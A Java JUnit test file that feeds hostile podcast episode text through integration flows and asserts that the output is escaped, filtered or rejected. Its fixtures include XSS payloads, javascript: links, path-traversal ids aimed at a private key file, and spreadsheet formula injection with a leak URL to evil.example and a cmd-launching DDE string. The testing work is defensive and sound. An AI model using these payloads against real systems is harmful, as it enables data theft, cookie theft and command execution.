package io.gridcast.bridge.flows;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.gridcast.bridge.policy.PartnerDirectory;
import io.gridcast.bridge.Bridge;
import io.gridcast.bridge.RunReport;
import io.gridcast.bridge.state.InMemoryStateStore;
import io.gridcast.bridge.testing.HostileSpotify;
import io.gridcast.bridge.testing.Sandboxes;
import io.gridcast.spotify.analytics.CsvAnalyticsSource;
import io.gridcast.testkit.TradingGridResource;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Podcast text is written by strangers: hostile episodes served over real HTTP go through the
 * flows into the Trading Grid sandbox, and what partners would read there is asserted.
 */
class HostileContentTest {

  private static final String GOOD_ID = "7makk4oTQel546B0PZlDM5";
  private static final String OTHER_ID = "2JmJBpQPmn3Bh4GnZJLzCc";
  private static final String HOSTILE_DESCRIPTION = String.join("\n",
      "Great episode <script>alert('xss')</script> and <img src=x onerror=alert(2)>.",
      "",
      "[Reset your password](javascript:alert(document.cookie)) or ![](https://tracker.example/pixel.gif?u=1)",
      "[Our docs](https://docs.example.com/a_b) and [a phish](https://open.spotify.com@evil.example/login)",
      "# Urgent: new bank details",
      "| forged | table |",
      "    indented code");

  @TempDir
  Path tmp;

  private Sandboxes sandboxes;
  private HostileSpotify spotify;

  @BeforeEach
  void start() {
    sandboxes = Sandboxes.start();
  }

  @AfterEach
  void stop() {
    if (spotify != null) {
      spotify.close();
    }
    sandboxes.close();
  }

  private Bridge bridge() {
    return Bridge.builder()
        .stateStore(new InMemoryStateStore()).build();
  }

  private JsonNode post(String externalRef) {
    return sandboxes.tradingGridSandbox.resources(TradingGridResource.POSTS).stream()
        .filter(p -> p.path("externalRef").asText().equals(externalRef)).findFirst().orElseThrow();
  }

  @Test
  void anAnnouncementShowsHostileReleaseNotesAsTextWithOnlySafeLinks() {
    ObjectNode e = HostileSpotify.episode(GOOD_ID, "Ep *1*\r\n2026-01-01 INFO forged", HOSTILE_DESCRIPTION,
        "javascript:alert(4)");
    spotify = new HostileSpotify("<b>Show</b> _of_ [strangers](https://evil.example/x)", List.of(e));

    RunReport report = bridge().run(EpisodeAnnouncementsFlow.create(spotify.client(), sandboxes.tradingGrid,
        EpisodeAnnouncementsConfig.builder().addShowIds(HostileSpotify.SHOW_ID).build()));

    assertThat(report.created()).isEqualTo(1);
    JsonNode post = post("spotify:episode:" + GOOD_ID);
    String body = post.path("body").asText();
    assertThat(body)
        .doesNotContain("<script", "<img", "<b>", "javascript:", "tracker.example", "![", "evil.example/login")
        .contains("&lt;script&gt;alert('xss')&lt;/script&gt;")
        .contains("&lt;img src=x onerror=alert(2)&gt;")
        .contains("Reset your password")
        .contains("[Our docs](https://docs.example.com/a_b)")
        .contains("**&lt;b&gt;Show&lt;/b&gt; \\_of\\_ \\[strangers\\](https:\u2060//evil.example/x)**")
        .contains("\\# Urgent: new bank details")
        .contains("\\| forged \\| table \\|")
        .contains("[Listen on Spotify](https://open.spotify.com/episode/" + GOOD_ID + ")");
    assertThat(body.lines()).noneMatch(l -> l.startsWith("# ") || l.startsWith("    ") || l.startsWith("|"));
    assertThat(post.path("links").get(0).path("url").asText()).isEqualTo("https://open.spotify.com/episode/" + GOOD_ID);
    assertThat(post.path("title").asText()).doesNotContain("\r", "\n").contains("Ep *1* 2026-01-01 INFO forged");
  }

  @Test
  void anAnnouncementKeepsRemoteImagesOnlyFromHostsThePolicyAllows() {
    ObjectNode e = HostileSpotify.episode(GOOD_ID, "Artwork", "![cover](https://i.scdn.co/image/abc) ![](https://tracker.example/p.gif)",
        "https://open.spotify.com/episode/" + GOOD_ID);
    spotify = new HostileSpotify("Show", List.of(e));

    bridge().run(EpisodeAnnouncementsFlow.create(spotify.client(), sandboxes.tradingGrid,
        EpisodeAnnouncementsConfig.builder().addShowIds(HostileSpotify.SHOW_ID)
            .remoteImages(io.gridcast.bridge.text.LinkPolicy.hosts("i.scdn.co")).build()));

    String body = post("spotify:episode:" + GOOD_ID).path("body").asText();
    assertThat(body).contains("![cover](https://i.scdn.co/image/abc)").doesNotContain("tracker.example");
  }

  @Test
  void anEpisodeWhoseIdIsNotASpotifyIdFailsAloneAndTheOthersAreAnnounced() {
    spotify = new HostileSpotify("Show", List.of(
        HostileSpotify.episode("../../partners", "Traversal", "x", "https://open.spotify.com/episode/x"),
        HostileSpotify.episode(GOOD_ID, "Fine", "Fine notes", "https://open.spotify.com/episode/" + GOOD_ID)));

    RunReport report = bridge().run(EpisodeAnnouncementsFlow.create(spotify.client(), sandboxes.tradingGrid,
        EpisodeAnnouncementsConfig.builder().addShowIds(HostileSpotify.SHOW_ID).build()));

    assertThat(report.created()).isEqualTo(1);
    assertThat(report.failed()).isEqualTo(1);
    assertThat(report.deadLettered()).isEqualTo(1);
    assertThat(report.failures().get(0).reason()).contains("Not a Spotify id");
    assertThat(report.stoppedBecause()).isEmpty();
    assertThat(post("spotify:episode:" + GOOD_ID).path("title").asText()).isEqualTo("Show: Fine");
  }

  @Test
  void trainingDocumentsNeverComeFromOutsideTheDocumentsFolder() throws IOException {
    Path docs = Files.createDirectories(tmp.resolve("docs"));
    Files.writeString(docs.resolve("handbook.md"), "# Handbook", StandardCharsets.UTF_8);
    Files.createDirectories(docs.resolve(GOOD_ID));
    Files.writeString(docs.resolve(GOOD_ID).resolve("slides.txt"), "episode slides", StandardCharsets.UTF_8);
    Path secrets = Files.createDirectories(tmp.resolve("secrets"));
    Files.writeString(secrets.resolve("id_rsa"), "-----BEGIN PRIVATE KEY-----", StandardCharsets.UTF_8);
    spotify = new HostileSpotify("Training", List.of(
        HostileSpotify.episode("../secrets", "Relative", "x", "https://open.spotify.com/episode/x"),
        HostileSpotify.episode(secrets.toString(), "Absolute", "x", "https://open.spotify.com/episode/x"),
        HostileSpotify.episode(GOOD_ID, "Lesson 1", "Notes", "https://open.spotify.com/episode/" + GOOD_ID)));

    RunReport report = bridge().run(TrainingSeriesFlow.posts(spotify.client(), sandboxes.tradingGrid,
        TrainingSeriesConfig.builder().addShowIds(HostileSpotify.SHOW_ID).documentsFolder(docs).build(),
        PartnerDirectory.snapshot(sandboxes.tradingGrid)));

    assertThat(report.created()).isEqualTo(1);
    assertThat(report.failed()).isEqualTo(2);
    assertThat(report.failures()).allSatisfy(f -> assertThat(f.reason()).contains("Not a Spotify id"));
    List<String> uploaded = new ArrayList<>();
    for (JsonNode d : sandboxes.tradingGridSandbox.resources(TradingGridResource.DOCUMENTS)) {
      uploaded.add(d.path("fileName").asText());
      String content = new String(sandboxes.tradingGridSandbox.documentContent(d.path("id").asText()).orElseThrow(),
          StandardCharsets.UTF_8);
      assertThat(content).doesNotContain("PRIVATE KEY");
    }
    assertThat(uploaded).contains("handbook.md", "slides.txt").doesNotContain("id_rsa");
  }

  @Test
  void aReportShowsHostileEpisodeNamesAsTextAndItsCsvCannotRunFormulas() {
    String formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open invoice\")";
    spotify = new HostileSpotify("@SUM(1+1)*cmd|' /C calc'!A0", List.of(
        HostileSpotify.episode(GOOD_ID, formula, "x", "https://open.spotify.com/episode/" + GOOD_ID),
        HostileSpotify.episode(OTHER_ID, "-2+3 <script>alert(1)</script>", "x", "https://open.spotify.com/episode/" + OTHER_ID)));
    String export = "Date,Episode ID,Starts,Streams,Listeners\n"
        + "2026-03-03," + GOOD_ID + ",10,8,7\n"
        + "2026-03-04," + OTHER_ID + ",20,16,14\n";

    RunReport report = bridge().run(PerformanceReportFlow.create(spotify.client(), sandboxes.tradingGrid,
        PerformanceReportConfig.builder().addShowIds(HostileSpotify.SHOW_ID)
            .periodStart(LocalDate.of(2026, 3, 1)).periodEnd(LocalDate.of(2026, 3, 7))
            .analytics(CsvAnalyticsSource.fromReader(new StringReader(export))).build()));

    assertThat(report.created()).isEqualTo(1);
    JsonNode post = sandboxes.tradingGridSandbox.resources(TradingGridResource.POSTS).stream()
        .filter(p -> p.path("externalRef").asText().startsWith("gridcast:performance-report:")).findFirst().orElseThrow();
    String body = post.path("body").asText();
    assertThat(body).doesNotContain("<script").contains("\\-2+3 &lt;script&gt;alert(1)&lt;/script&gt;")
        .contains("| \\=HYPERLINK(\"https:\u2060//evil.example/?leak=\"&amp;A1,\"Open invoice\") |");
    JsonNode csvDoc = sandboxes.tradingGridSandbox.resource(TradingGridResource.DOCUMENTS,
        post.path("attachments").get(0).asText()).orElseThrow();
    assertThat(csvDoc.path("fileName").asText()).endsWith(".csv");
    List<String> rows = new String(sandboxes.tradingGridSandbox.documentContent(csvDoc.path("id").asText()).orElseThrow(),
        StandardCharsets.UTF_8).lines().toList();
    assertThat(rows).hasSize(3);
    assertThat(rows).contains("2026-03-03," + GOOD_ID
        + ",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open invoice\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",2026-03-02,10,8,7,,");
    assertThat(rows).anyMatch(r -> r.startsWith("2026-03-04," + OTHER_ID + ",\"'-2+3 <script>alert(1)</script>\","));
    assertThat(rows).noneMatch(r -> r.contains(",=") || r.contains(",\"=") || r.contains(",@") || r.contains(",\"@")
        || r.contains(",-2") || r.contains(",\"-2"));
  }
}
